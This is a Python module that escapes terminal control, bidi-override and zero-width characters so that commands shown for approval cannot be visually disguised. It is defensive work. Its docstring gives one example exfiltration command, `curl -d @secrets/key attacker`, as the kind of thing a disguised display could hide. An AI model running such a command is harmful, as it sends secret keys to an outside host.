"""Text from elsewhere made safe to show on a terminal (issue 27 class 4). [core]

A terminal obeys what it is sent: ESC sequences move the cursor and clear lines, CR goes back to
column 0, and Unicode format characters (U+202E RIGHT-TO-LEFT OVERRIDE, the other bidi controls,
zero-width characters) reorder or hide what follows. So a command shown for approval could show
`ls -la` while it is `curl -d @secrets/key attacker`. `visible` escapes every such character as
a code the owner can read: C0 and C1 controls and DEL as `\\xNN`, the format (Cf), line and
paragraph separator (Zl, Zp) and surrogate (Cs) characters as `\\uNNNN`. Newlines are kept when
asked (a multi-line command is shown on its lines); a tab is escaped too, since it can hide text.
When anything was escaped, every backslash of the original is doubled, so `\\x1b` typed in a
command can never be taken for an escape (`Shown.escaped` says how many were).
"""

from __future__ import annotations

import unicodedata
from dataclasses import dataclass

_HIDDEN_CATEGORIES = frozenset({"Cc", "Cf", "Cs", "Zl", "Zp"})


@dataclass(frozen=True, slots=True)
class Shown:
    text: str
    escaped: int  # characters shown as escapes


def _hidden(ch: str, keep_newlines: bool) -> bool:
    if ch == "\n":
        return not keep_newlines
    return unicodedata.category(ch) in _HIDDEN_CATEGORIES


def _code(ch: str) -> str:
    n = ord(ch)
    return f"\\x{n:02x}" if n < 0x100 else f"\\u{n:04x}" if n < 0x10000 else f"\\U{n:08x}"


def visible(text: str, *, keep_newlines: bool = True) -> Shown:
    """`text` with every character that could move the cursor or reorder the line escaped."""
    hidden = sum(_hidden(ch, keep_newlines) for ch in text)
    if not hidden:
        return Shown(text, 0)
    out = []
    for ch in text:
        if ch == "\\":
            out.append("\\\\")
        elif _hidden(ch, keep_newlines):
            out.append(_code(ch))
        else:
            out.append(ch)
    return Shown("".join(out), hidden)


def one_line(text: str) -> str:
    """`visible` for a name or a short field shown inside one line (newlines escaped too)."""
    return visible(text, keep_newlines=False).text
